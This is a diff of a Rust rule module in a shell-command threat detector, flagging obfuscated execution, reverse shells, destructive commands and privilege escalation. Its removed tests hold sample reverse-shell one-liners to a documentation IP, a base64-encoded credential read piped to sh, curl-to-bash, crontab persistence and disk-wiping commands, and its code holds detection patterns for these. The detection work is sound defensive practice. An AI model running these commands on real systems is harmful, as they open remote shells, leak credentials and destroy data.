@@ -1,35 +1,28 @@
 //! Command rules over parsed shell commands: obfuscated execution (CMD-TRACE-001),
-//! persistence writes (002), reverse shells (003), destructive commands (004)
-//! and privilege escalation (005).
+//! reverse and bind shells (003), destructive commands (004) and privilege
+//! escalation (005). Persistence (002) is `persist.rs`.
+//!
+//! The commands come in the shell's normal form (see `shell`): decoded
+//! payloads, interpreter code and aliases are already commands of their own,
+//! so a rule written for `nc -e /bin/sh` also catches the base64 of it, the
+//! Python socket that does the same, and `busybox nc`.
 
 use super::hit::Hit;
 use super::rules::id;
-use super::shell::{basename, Command, RedirectKind, Script, Via};
+use super::shell::{Command, RedirectKind, Script, Via};
 use super::taxonomy::{normalise_path, Taxonomy};
+use crate::model::Severity;
 use regex::{Regex, RegexBuilder};
 use std::sync::OnceLock;
+
+mod download;
+mod revshell;
+use download::{downloaded_then_run, upstream_urls};
+use revshell::reverse_shell;
 
 fn rx(cell: &'static OnceLock<Option<Regex>>, pat: &str) -> Option<&'static Regex> {
     cell.get_or_init(|| RegexBuilder::new(pat).case_insensitive(true).build().ok())
         .as_ref()
-}
-
-/// Interpreter code that connects a socket to a shell.
-fn reverse_shell_code(code: &str) -> bool {
-    static SOCK: OnceLock<Option<Regex>> = OnceLock::new();
-    static SHELL: OnceLock<Option<Regex>> = OnceLock::new();
-    let sock = rx(
-        &SOCK,
-        r"socket\.socket|fsockopen|/dev/tcp/|TCPSocket|IO::Socket|use\s+Socket|net\.connect|net\.Socket|socket\(\s*(AF_INET|PF_INET|S)",
-    );
-    let shell = rx(
-        &SHELL,
-        r"pty\.spawn|os\.dup2|/bin/(ba|z)?sh|subprocess\.(call|Popen|run)|exec\s*\(|spawn\(|proc_open|system\(|cmd\.exe|STDIN->fdopen|open\(STDIN",
-    );
-    match (sock, shell) {
-        (Some(a), Some(b)) => a.is_match(code) && b.is_match(code),
-        _ => false,
-    }
 }
 
 /// Interpreter code that decodes or downloads code and runs it.
@@ -44,29 +37,53 @@ fn obfuscated_code(code: &str) -> bool {
 }
 
 /// True when a shell or interpreter command runs what arrives on its stdin.
-fn executes_stdin(cmd: &Command, tax: &Taxonomy) -> bool {
+pub fn executes_stdin(cmd: &Command, tax: &Taxonomy) -> bool {
     let name = cmd.name();
+    let stdin_file =
+        |a: &String| ["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"].contains(&a.as_str());
+    if name == "source" || name == "." {
+        return cmd.args().iter().any(stdin_file);
+    }
     let is_shell = tax.shells.contains(&name);
     let is_interp = tax.interpreters.contains(&name)
         || tax
             .interpreters
             .contains(name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'));
-    if !(is_shell || is_interp) || cmd.script.is_some() || cmd.code.is_some() {
+    if !(is_shell || is_interp) || cmd.script.is_some() {
         return false;
     }
-    cmd.args()
-        .iter()
-        .all(|a| a.starts_with('-') && !["-m", "-c", "-e", "-r"].contains(&a.as_str()) || a == "-")
+    if cmd.code.is_some() && cmd.decoded_by.is_empty() {
+        return false;
+    }
+    cmd.args().iter().all(|a| {
+        a.starts_with('-') && !["-m", "-c", "-e", "-r"].contains(&a.as_str()) || stdin_file(a)
+    })
 }
 
 /// The command line as evidence: whitespace collapsed, not cut (the redactor cuts
-/// evidence after redacting it, so no piece of a secret survives a cut).
-fn short(s: &str) -> String {
-    crate::redact::cut::collapse(s)
+/// evidence after redacting it, so no piece of a secret survives a cut), except
+/// that a hostile line is bounded to its first 64 KiB first, backing off over the
+/// token the bound would split (`raw_head`), so no start of a secret is left.
+pub fn short(s: &str) -> String {
+    crate::redact::cut::collapse(crate::redact::cut::raw_head(s, 64 * 1024))
+}
+
+/// " (in a payload decoded by base64 -d)" for commands a decoded payload ran.
+pub fn decoded_note(cmd: &Command) -> String {
+    if cmd.decoded_by.is_empty() {
+        return String::new();
+    }
+    format!(" (in a payload decoded by {})", cmd.decoded_by.join(" | "))
 }
 
 /// Command rule hits for one parsed command line.
 pub fn script_hits(script: &Script, line: &str, tax: &Taxonomy) -> Vec<Hit> {
+    script_hits_at(script, line, tax, 0)
+}
+
+/// [`script_hits`] for content being graded `depth` levels down (persistence
+/// content that writes persistence stops being graded after a few levels).
+pub fn script_hits_at(script: &Script, line: &str, tax: &Taxonomy, depth: usize) -> Vec<Hit> {
     let mut hits = Vec::new();
     let ev = short(line);
     let decoders_seen: bool = script
@@ -74,198 +91,227 @@ pub fn script_hits(script: &Script, line: &str, tax: &Taxonomy) -> Vec<Hit> {
         .iter()
         .any(|c| c.via == Via::Substitution && is_decoder(c, tax));
     for cmd in &script.commands {
-        let name = cmd.name();
-        // CMD-TRACE-001: obfuscated execution
-        if executes_stdin(cmd, tax) {
-            let from_fetch = cmd.piped_from.iter().any(|n| tax.fetchers.contains(n));
-            let from_decode = cmd.piped_from.iter().any(|n| {
-                tax.decoders.contains(n) && !["echo", "printf", "tr"].contains(&n.as_str())
-            });
-            if from_fetch || from_decode {
-                let what = if from_fetch {
-                    "downloaded content"
-                } else {
-                    "decoded data"
-                };
-                hits.push(Hit::new(
-                    id::CMD_OBFUSCATED,
-                    format!("{what} piped into {name}"),
-                    &ev,
-                ));
-            }
-        }
-        let subst_bad = cmd
-            .subst_commands
-            .iter()
-            .chain(cmd.procsubst_commands.iter())
-            .any(|n| {
-                tax.fetchers.contains(n)
-                    || tax.decoders.contains(n) && !["echo", "printf"].contains(&n.as_str())
-            });
-        if (cmd.dynamic_script || name == "eval") && subst_bad {
-            hits.push(Hit::new(
-                id::CMD_OBFUSCATED,
-                format!("{name} runs code computed from a decoder or download"),
-                &ev,
-            ));
-        } else if (tax.shells.contains(&name) || name == "source" || name == ".")
-            && cmd
-                .procsubst_commands
-                .iter()
-                .any(|n| tax.fetchers.contains(n))
-        {
-            hits.push(Hit::new(
-                id::CMD_OBFUSCATED,
-                format!("{name} runs a download through process substitution"),
-                &ev,
-            ));
-        } else if cmd.dynamic_name && (decoders_seen || subst_bad) {
-            hits.push(Hit::new(
-                id::CMD_OBFUSCATED,
-                "command name computed from decoded data".to_string(),
-                &ev,
-            ));
-        }
-        if let Some(code) = &cmd.code {
-            if obfuscated_code(code) {
-                hits.push(Hit::new(
-                    id::CMD_OBFUSCATED,
-                    format!("{name} evaluates decoded or downloaded code"),
-                    &ev,
-                ));
-            }
-        }
-        // CMD-TRACE-003: reverse / bind shells
-        let dev_tcp = cmd
-            .redirects
-            .iter()
-            .any(|r| r.target.starts_with("/dev/tcp/") || r.target.starts_with("/dev/udp/"))
-            || cmd.args().iter().any(|a| a.starts_with("/dev/tcp/"));
-        let nc_exec = ["nc", "ncat", "netcat"].contains(&name.as_str())
-            && (cmd.has_flag("-e")
-                || cmd.has_flag("-c")
-                || cmd.has_flag("--exec")
-                || cmd.has_flag("--sh-exec")
-                || (cmd.has_flag("-l") && cmd.piped_to.iter().any(|n| tax.shells.contains(n))));
-        let nc_relay = ["nc", "ncat", "netcat", "telnet", "openssl"].contains(&name.as_str())
-            && cmd.piped_from.iter().any(|n| tax.shells.contains(n));
-        let socat_exec = name == "socat"
-            && cmd.args().iter().any(|a| {
-                let l = a.to_ascii_lowercase();
-                (l.starts_with("exec:") || l.starts_with("system:"))
-                    && (l.contains("sh") || l.contains("pty"))
-            });
-        let code_rs = cmd.code.as_deref().map(reverse_shell_code).unwrap_or(false);
-        if dev_tcp || nc_exec || nc_relay || socat_exec || code_rs {
+        obfuscated(cmd, script, tax, decoders_seen, &ev, &mut hits);
+        if let Some(why) = reverse_shell(cmd, script, tax) {
             hits.push(Hit::new(
                 id::CMD_REVERSE_SHELL,
-                format!(
-                    "{} connects a shell to the network",
-                    if name.is_empty() {
-                        "redirection"
-                    } else {
-                        &name
-                    }
-                ),
+                format!("{why}{}", decoded_note(cmd)),
                 &ev,
             ));
         }
-        // CMD-TRACE-002: persistence
-        for target in write_targets(cmd) {
-            if let Some(g) = tax.persistence.matches(&target) {
-                hits.push(
-                    Hit::new(
-                        id::CMD_PERSISTENCE,
-                        format!("writes {target} (persistence: {g})"),
-                        &ev,
-                    )
-                    .key(&format!("{target}|{ev}")),
-                );
-            }
-            let norm = normalise_path(&target);
-            if norm.starts_with("/etc/") {
-                hits.push(Hit::new(
-                    id::CMD_PRIVESC,
-                    format!("writes {target} under /etc"),
-                    &ev,
-                ));
-            }
-        }
-        if name == "crontab" && !cmd.args().iter().all(|a| a == "-l" || a.starts_with("-u")) {
-            hits.push(Hit::new(
-                id::CMD_PERSISTENCE,
-                "installs a crontab".to_string(),
-                &ev,
-            ));
-        }
-        for pc in &tax.persistence_commands {
-            if pc.len() > 1
-                && cmd.argv.len() >= pc.len()
-                && basename(&cmd.argv[0]) == pc[0]
-                && pc[1..].iter().all(|w| cmd.args().contains(w))
-            {
-                hits.push(Hit::new(
-                    id::CMD_PERSISTENCE,
-                    format!("{} installs a service", pc.join(" ")),
-                    &ev,
-                ));
-            }
-        }
-        // CMD-TRACE-004: destructive
         if let Some(why) = destructive(cmd, tax) {
             hits.push(Hit::new(id::CMD_DESTRUCTIVE, why, &ev));
         }
-        // CMD-TRACE-005: privilege escalation
-        if let Some(w) = cmd
-            .wrappers
-            .iter()
-            .find(|w| tax.privilege_commands.contains(w.as_str()))
-        {
+        privilege(cmd, tax, &ev, &mut hits);
+    }
+    downloaded_then_run(script, tax, &ev, &mut hits);
+    hits.extend(super::persist::script_hits(script, tax, &ev, depth));
+    hits
+}
+
+/// CMD-TRACE-001 for one command.
+fn obfuscated(
+    cmd: &Command,
+    script: &Script,
+    tax: &Taxonomy,
+    decoders_seen: bool,
+    ev: &str,
+    hits: &mut Vec<Hit>,
+) {
+    let name = cmd.name();
+    let shown = cmd.display();
+    if executes_stdin(cmd, tax) {
+        let from_fetch = cmd.piped_from.iter().any(|n| tax.fetchers.contains(n));
+        let from_decode = !cmd.decoded_by.is_empty()
+            || cmd.piped_from.iter().any(|n| {
+                tax.decoders.contains(n) && !["echo", "printf", "tr"].contains(&n.as_str())
+            });
+        if from_fetch {
+            let urls = upstream_urls(cmd, script, tax);
+            let trusted = !urls.is_empty() && urls.iter().all(|u| tax.trusted_installer(u));
+            let hit = Hit::new(
+                id::CMD_OBFUSCATED,
+                if trusted {
+                    format!(
+                        "downloaded content piped into {name}: the vendor's own installer ({})",
+                        urls.join(", ")
+                    )
+                } else {
+                    format!("downloaded content piped into {name}")
+                },
+                ev,
+            );
+            hits.push(if trusted {
+                hit.severity(Severity::Low)
+            } else {
+                hit
+            });
+        } else if from_decode {
+            let how = if cmd.decoded_by.is_empty() {
+                "decoded data".to_string()
+            } else {
+                format!("data decoded by {}", cmd.decoded_by.join(" | "))
+            };
             hits.push(Hit::new(
-                id::CMD_PRIVESC,
-                format!("runs {name} with {w}"),
-                &ev,
-            ));
-        } else if tax.privilege_commands.contains(&name) {
-            hits.push(Hit::new(
-                id::CMD_PRIVESC,
-                format!("{name} raises privileges"),
-                &ev,
-            ));
-        }
-        if name == "chmod" {
-            if let Some(mode) = cmd
-                .args()
-                .iter()
-                .find(|a| !a.starts_with('-') || a.contains('s'))
-            {
-                let m = mode.as_str();
-                let octal_suid = m.len() == 4
-                    && m.chars().all(|c| c.is_ascii_digit())
-                    && matches!(m.as_bytes()[0], b'2' | b'4' | b'6');
-                if m.contains("+s") || octal_suid {
-                    hits.push(Hit::new(
-                        id::CMD_PRIVESC,
-                        "sets a setuid/setgid bit".to_string(),
-                        &ev,
-                    ));
-                }
-            }
-        }
-        if name == "setcap"
-            && cmd
-                .args()
-                .iter()
-                .any(|a| a.contains("cap_setuid") || a.contains("cap_sys_admin"))
-        {
-            hits.push(Hit::new(
-                id::CMD_PRIVESC,
-                "grants a dangerous capability".to_string(),
-                &ev,
+                id::CMD_OBFUSCATED,
+                format!("{how} piped into {name}"),
+                ev,
             ));
         }
     }
-    hits
+    let subst_bad = cmd
+        .subst_commands
+        .iter()
+        .chain(cmd.procsubst_commands.iter())
+        .any(|n| {
+            tax.fetchers.contains(n)
+                || tax.decoders.contains(n) && !["echo", "printf"].contains(&n.as_str())
+        });
+    let runs_code = tax.shells.contains(&name)
+        || name == "eval"
+        || name == "source"
+        || name == "."
+        || cmd.code.is_some();
+    if (cmd.dynamic_script || name == "eval") && subst_bad {
+        hits.push(Hit::new(
+            id::CMD_OBFUSCATED,
+            format!("{name} runs code computed from a decoder or download"),
+            ev,
+        ));
+    } else if runs_code && !cmd.words_decoded_by.is_empty() {
+        hits.push(Hit::new(
+            id::CMD_OBFUSCATED,
+            format!(
+                "{name} runs code decoded on the line by {}",
+                cmd.words_decoded_by.join(" | ")
+            ),
+            ev,
+        ));
+    } else if (tax.shells.contains(&name)
+        || name == "source"
+        || name == "."
+        || super::shell::lang_of(&name, tax).is_some())
+        && cmd.procsubst_commands.iter().any(|n| {
+            tax.fetchers.contains(n) || tax.decoders.contains(n) && n != "echo" && n != "printf"
+        })
+    {
+        hits.push(Hit::new(
+            id::CMD_OBFUSCATED,
+            format!("{name} runs a download or decoded data through process substitution"),
+            ev,
+        ));
+    } else if (cmd.dynamic_name && (decoders_seen || subst_bad))
+        || (cmd.computed_name && !cmd.words_decoded_by.is_empty())
+    {
+        hits.push(Hit::new(
+            id::CMD_OBFUSCATED,
+            format!("command name {name} computed from decoded data"),
+            ev,
+        ));
+    } else if cmd.computed_name && cmd.via != Via::Interpreter && !name.is_empty() {
+        // `c=cu;r=rl;$c$r …`, `/???/c?t`, `$(printf cu)rl`: the name is spelled to hide it
+        hits.push(
+            Hit::new(
+                id::CMD_OBFUSCATED,
+                format!("command name {name} assembled on the line to hide it"),
+                ev,
+            )
+            .severity(Severity::Medium),
+        );
+    }
+    // `pwsh -EncodedCommand …`: the command itself is hidden in base64
+    let pwsh_encoded = super::shell::lang_of(&name, tax) == Some(super::interp::Lang::Pwsh)
+        && cmd.code.is_some()
+        && cmd
+            .args()
+            .iter()
+            .any(|a| super::shell::pwsh_encoded_flag(a));
+    if pwsh_encoded {
+        hits.push(Hit::new(
+            id::CMD_OBFUSCATED,
+            format!("{name} runs a base64-encoded command{}", decoded_note(cmd)),
+            ev,
+        ));
+        return;
+    }
+    let interp = cmd.interp.as_deref();
+    let code_obf = cmd.code.as_deref().map(obfuscated_code).unwrap_or(false)
+        || interp.map(|i| i.evals_decoded).unwrap_or(false);
+    if code_obf {
+        hits.push(Hit::new(
+            id::CMD_OBFUSCATED,
+            format!("{shown} evaluates decoded code{}", decoded_note(cmd)),
+            ev,
+        ));
+    } else if interp.map(|i| i.evals_download).unwrap_or(false) {
+        hits.push(Hit::new(
+            id::CMD_OBFUSCATED,
+            format!("{shown} evaluates downloaded code"),
+            ev,
+        ));
+    }
+}
+
+/// CMD-TRACE-005 for one command.
+fn privilege(cmd: &Command, tax: &Taxonomy, ev: &str, hits: &mut Vec<Hit>) {
+    let name = cmd.name();
+    if let Some(w) = cmd
+        .wrappers
+        .iter()
+        .find(|w| tax.privilege_commands.contains(w.as_str()))
+    {
+        hits.push(Hit::new(
+            id::CMD_PRIVESC,
+            format!("runs {name} with {w}"),
+            ev,
+        ));
+    } else if tax.privilege_commands.contains(&name) {
+        hits.push(Hit::new(
+            id::CMD_PRIVESC,
+            format!("{name} raises privileges"),
+            ev,
+        ));
+    }
+    for target in write_targets(cmd) {
+        if normalise_path(&target).starts_with("/etc/") {
+            hits.push(Hit::new(
+                id::CMD_PRIVESC,
+                format!("writes {target} under /etc"),
+                ev,
+            ));
+        }
+    }
+    if name == "chmod" {
+        if let Some(mode) = cmd
+            .args()
+            .iter()
+            .find(|a| !a.starts_with('-') || a.contains('s'))
+        {
+            let m = mode.as_str();
+            let octal_suid = m.len() == 4
+                && m.chars().all(|c| c.is_ascii_digit())
+                && matches!(m.as_bytes()[0], b'2' | b'4' | b'6');
+            if m.contains("+s") || octal_suid {
+                hits.push(Hit::new(
+                    id::CMD_PRIVESC,
+                    "sets a setuid/setgid bit".to_string(),
+                    ev,
+                ));
+            }
+        }
+    }
+    if name == "setcap"
+        && cmd
+            .args()
+            .iter()
+            .any(|a| a.contains("cap_setuid") || a.contains("cap_sys_admin"))
+    {
+        hits.push(Hit::new(
+            id::CMD_PRIVESC,
+            "grants a dangerous capability".to_string(),
+            ev,
+        ));
+    }
 }
 
 fn is_decoder(c: &Command, tax: &Taxonomy) -> bool {
@@ -279,7 +325,8 @@ fn is_decoder(c: &Command, tax: &Taxonomy) -> bool {
     }
 }
 
-/// Files a command writes: output redirections, `tee`, the destination of cp/mv/install/ln, `sed -i`.
+/// Files a command writes: output redirections, `tee`, the destination of
+/// cp/mv/install/ln/rsync, `sed -i`, `dd of=`, a download's output file.
 pub fn write_targets(cmd: &Command) -> Vec<String> {
     let mut out: Vec<String> = cmd
         .redirects
@@ -312,6 +359,44 @@ pub fn write_targets(cmd: &Command) -> Vec<String> {
                 if let Some(t) = a.strip_prefix("of=") {
                     out.push(t.to_string());
                 }
+            }
+        }
+        "curl" | "wget" => {
+            for f in ["--output", "--output-document"] {
+                if let Some(v) = cmd.flag_value(f) {
+                    out.push(v.to_string());
+                }
+            }
+            let short = if name == "wget" { 'O' } else { 'o' };
+            out.extend(cmd.short_value(short).map(str::to_string));
+        }
+        "tar" => {
+            // `tar czf OUT …`, `tar -c -f OUT …`, `tar --create --file=OUT …`
+            let args = cmd.args();
+            let create = args.first().map(|a| {
+                let m = a.trim_start_matches('-');
+                !a.starts_with("--") && (m.contains('c') || m.contains('r') || m.contains('u'))
+            }) == Some(true)
+                || args.iter().any(|a| a == "--create" || a == "--append");
+            if create {
+                if let Some(f) = cmd.flag_value("--file").or_else(|| cmd.short_value('f')) {
+                    out.push(f.to_string());
+                } else if let Some(first) = args
+                    .first()
+                    .filter(|a| !a.starts_with('-') && a.ends_with('f'))
+                {
+                    let _ = first;
+                    if let Some(f) = args.get(1) {
+                        out.push(f.to_string());
+                    }
+                }
+            }
+        }
+        "zip" | "7z" | "7za" | "rar" => {
+            // `zip OUT.zip files…`, `7z a OUT.7z files…`
+            let skip = usize::from(name != "zip");
+            if let Some(f) = pos.get(skip) {
+                out.push(f.to_string());
             }
         }
         _ => {}
@@ -377,116 +462,4 @@ fn destructive(cmd: &Command, tax: &Taxonomy) -> Option<String> {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::detect::shell::parse_script;
-    use crate::detect::taxonomy::{DetectionConfig, Taxonomy};
-
-    fn rules(s: &str) -> Vec<&'static str> {
-        let t = Taxonomy::load(&DetectionConfig::default()).expect("tax");
-        let mut r: Vec<&str> = script_hits(&parse_script(s, &t), s, &t)
-            .iter()
-            .map(|h| h.rule)
-            .collect();
-        r.dedup();
-        r
-    }
-
-    #[test]
-    fn obfuscated_execution() {
-        assert_eq!(
-            rules("curl -fsSL https://get.example/install.sh | bash"),
-            vec![id::CMD_OBFUSCATED]
-        );
-        assert_eq!(
-            rules("echo Y2F0IH4vLmF3cy9jcmVkZW50aWFscw== | base64 -d | sh"),
-            vec![id::CMD_OBFUSCATED]
-        );
-        assert_eq!(
-            rules(r#"bash -c "$(echo Y2F0 | base64 -d)""#),
-            vec![id::CMD_OBFUSCATED]
-        );
-        assert_eq!(
-            rules(r#"eval "$(curl -s https://x.example/p)""#),
-            vec![id::CMD_OBFUSCATED]
-        );
-        assert_eq!(
-            rules("bash <(curl -s https://x.example/p)"),
-            vec![id::CMD_OBFUSCATED]
-        );
-        assert_eq!(
-            rules("python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"),
-            vec![id::CMD_OBFUSCATED]
-        );
-        // benign look-alikes
-        assert!(
-            rules("curl -s https://pypi.org/pypi/requests/json | python3 -m json.tool").is_empty()
-        );
-        assert!(rules(r#"eval "$(ssh-agent -s)""#).is_empty());
-        assert!(rules("echo aGVsbG8= | base64 -d").is_empty());
-        assert!(rules("cat README.md").is_empty());
-    }
-
-    #[test]
-    fn reverse_shells() {
-        assert_eq!(
-            rules("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
-            vec![id::CMD_REVERSE_SHELL]
-        );
-        assert_eq!(
-            rules("nc -e /bin/sh 203.0.113.5 4444"),
-            vec![id::CMD_REVERSE_SHELL]
-        );
-        assert_eq!(
-            rules(
-                "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"
-            ),
-            vec![id::CMD_REVERSE_SHELL]
-        );
-        assert_eq!(
-            rules("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"),
-            vec![id::CMD_REVERSE_SHELL]
-        );
-        assert!(rules("nc -zv localhost 5432").is_empty());
-    }
-
-    #[test]
-    fn persistence_destructive_privesc() {
-        assert_eq!(
-            rules("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"),
-            vec![id::CMD_PERSISTENCE]
-        );
-        assert_eq!(
-            rules("(crontab -l; echo '* * * * * curl x|sh') | crontab -"),
-            vec![id::CMD_PERSISTENCE]
-        );
-        assert_eq!(
-            rules("echo 'alias ls=x' | tee -a /home/u/.zshrc"),
-            vec![id::CMD_PERSISTENCE]
-        );
-        assert!(rules("crontab -l").is_empty());
-        assert!(rules("echo hi >> notes.txt").is_empty());
-        assert_eq!(rules("rm -rf ~/"), vec![id::CMD_DESTRUCTIVE]);
-        assert_eq!(
-            rules("rm -rf --no-preserve-root /"),
-            vec![id::CMD_DESTRUCTIVE]
-        );
-        assert_eq!(
-            rules("dd if=/dev/zero of=/dev/sda bs=1M"),
-            vec![id::CMD_DESTRUCTIVE]
-        );
-        assert_eq!(
-            rules("git push --force origin main"),
-            vec![id::CMD_DESTRUCTIVE]
-        );
-        assert!(rules("rm -rf target/ node_modules").is_empty());
-        assert!(rules("git push origin feature-x").is_empty());
-        assert_eq!(rules("sudo apt-get install -y jq"), vec![id::CMD_PRIVESC]);
-        assert_eq!(rules("chmod u+s /tmp/sh"), vec![id::CMD_PRIVESC]);
-        assert_eq!(
-            rules("echo '1.2.3.4 x' > /etc/hosts"),
-            vec![id::CMD_PRIVESC]
-        );
-        assert!(rules("chmod +x build.sh").is_empty());
-    }
-}
+mod tests;
